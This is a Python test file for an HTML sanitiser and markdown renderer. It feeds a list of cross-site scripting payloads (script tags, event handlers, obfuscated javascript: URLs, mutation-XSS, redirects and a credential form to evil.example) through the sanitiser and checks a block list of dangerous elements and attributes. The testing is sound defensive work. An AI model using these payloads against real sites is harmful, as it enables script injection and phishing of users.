import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bucketpress.content.html.html_tokens import tokenise, write
from bucketpress.content.html.sanitiser import is_safe_url, sanitise
from tests.unit.content.samples import RAW, SETTINGS, read

HOSTS = ("player.example",)
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https://ok.example' onclick=alert(1) style='x' target=_blank>x</a>",
    "<body onload=alert(1)>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(https://evil.example)'>x</div>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input type=image src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data='javascript:alert(1)'></object><embed src='x.swf'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe src='https://player.example@evil.example/'></iframe>",
    "<iframe src='http://player.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<video poster='javascript:alert(1)' src='javascript:alert(1)' onplay=alert(1)></video>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<template><script>alert(1)</script></template>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<a title='`' href=https://a.example/``onmouseover=alert(1)>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '![x" onerror="alert(1)](p.png "t\' onerror=\'alert(1)")',
    '```x"onclick="alert(1)\n<script>alert(1)</script>\n```',
]
ELEMENTS = re.compile(
    r"<(?:script|style|form|button|object|embed|svg|math|base|meta|link|template|textarea|noscript|title|body)\b",
    re.IGNORECASE,
)
TAGS = re.compile(r'<[a-z][a-z0-9]*(?: [a-z-]+="[^"]*")*>')


def assert_harmless(html: str) -> None:
    assert not ELEMENTS.search(html)
    tags = TAGS.findall(html)
    assert len(tags) == len(re.findall("<[a-zA-Z]", html)), "a tag that is spelt unlike all others"
    for tag in tags:
        for name, value in re.findall(r' ([a-z-]+)="([^"]*)"', tag):
            assert not name.startswith("on")
            assert name not in {"style", "srcdoc", "action", "formaction", "target", "srcset", "background", "data"}
            if name in {"href", "src", "cite", "poster"}:
                assert is_safe_url(value)
    for frame in re.findall(r'<iframe[^>]* src="([^"]*)"', html):
        assert frame.startswith("https://player.example/")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_attack_comes_to_nothing(payload: str) -> None:
    assert_harmless(sanitise(payload))
    assert_harmless(sanitise(payload, HOSTS))
    assert_harmless(sanitise(write(tokenise(payload)), HOSTS))
    for settings in (SETTINGS, RAW):
        found, _ = read(f"Before\n\n{payload}\n\nAfter {payload}", settings=settings)
        assert found is not None
        assert_harmless(found.body.html)


FRAGMENTS = [
    *("<p>", "</p>", "<div>", "</div>", "<b>", "</b>", "<a href='x'>", "</a>", "<table>", "<tr>", "<td>", "</table>"),
    *(
        "<pre>",
        "\n",
        "\n\n",
        "</pre>",
        "<ul>",
        "<li>",
        "<select>",
        "<option>",
        "<form>",
        "<svg>",
        "</svg>",
        "<math>",
        "<mtext>",
    ),
    *(
        "<style>",
        "</style>",
        "<title>",
        "</title>",
        "<textarea>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
        "<iframe src='//x'>",
    ),
    *(
        "</iframe>",
        "<img src=x>",
        "<br>",
        "</br>",
        "&nbsp;",
        "&lt;",
        "&amp;lt;",
        "&",
        "x",
        '"',
        "<input>",
        "<i>",
        "<p id=x>",
    ),
    *(
        "<figure>",
        "<figcaption>",
        "<h1>",
        "</h2>",
        "<a href='https://player.example/\u00a0'>",
        "<noscript>",
        "<caption>",
    ),
    *(
        "<blockquote cite='javascript:x'>",
        "<ruby>",
        "<rt>",
        "<colgroup>",
        "<col>",
        "<plaintext>",
        "<xmp>",
        "<nobr>",
        "<font>",
    ),
]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join), st.sampled_from([(), HOSTS]))
def test_sanitising_twice_changes_nothing(html: str, hosts: tuple[str, ...]) -> None:
    once = sanitise(html, hosts)

    assert sanitise(once, hosts) == once
    assert_harmless(once)


@given(st.text(), st.sampled_from([(), HOSTS]))
def test_sanitising_any_text_twice_changes_nothing(text: str, hosts: tuple[str, ...]) -> None:
    once = sanitise(text, hosts)

    assert sanitise(once, hosts) == once


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join))
def test_tokens_written_again_are_the_same_tokens(html: str) -> None:
    once = write(tokenise(html))

    assert write(tokenise(once)) == once


@given(st.text(st.sampled_from("*_`[]()<>!#-=~|\"'\n \\&ab1:/.^")))
def test_markdown_never_makes_harm(text: str) -> None:
    for settings in (SETTINGS, RAW):
        found, _ = read(text, settings=settings)
        if found:
            assert_harmless(found.body.html)
            assert sanitise(found.body.html, settings.embed_hosts) == found.body.html


@pytest.mark.parametrize(
    "url",
    ["/a", "a/b:c", "?a:b", "#a:b", "", "https://a.example", "HTTP://a.example", "mailto:a@b.example", "a b"],
)
def test_a_url_that_may_stand(url: str) -> None:
    assert is_safe_url(url)


@pytest.mark.parametrize(
    "url",
    [
        "//a",
        "/\\a",
        "\\\\a",
        " //a",
        "/\n/a",
        "javascript:x",
        "java\tscript:x",
        "\x01javascript:x",
        "data:,x",
        "a:b",
        "ftp://a",
    ],
)
def test_a_url_that_may_not_stand(url: str) -> None:
    assert not is_safe_url(url)
